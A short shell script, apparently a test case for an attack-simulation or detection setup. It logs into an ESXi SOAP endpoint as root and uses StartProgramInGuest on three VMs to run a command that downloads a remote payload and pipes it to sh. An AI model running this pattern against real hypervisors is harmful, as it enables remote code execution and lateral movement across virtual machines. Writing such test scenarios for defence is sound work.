#!/bin/sh
. /opt/case/case.sh

for m in vm-101 vm-102 vm-103; do
    curl -sf -H 'SOAPAction: urn:vim25/7.0' -d "<Login><userName>root</userName><password>bait</password></Login>" http://esxi-1.corp.example:8080/sdk >/dev/null
    curl -sf -H 'SOAPAction: urn:vim25/7.0' -d "<StartProgramInGuest><vm>$m</vm><auth><username>root</username><password>bait</password></auth><spec><programPath>/bin/sh</programPath><arguments>-c 'curl -s http://203.0.113.10/payload.sh|sh'</arguments></spec></StartProgramInGuest>" http://esxi-1.corp.example:8080/sdk >/dev/null
done
took_place
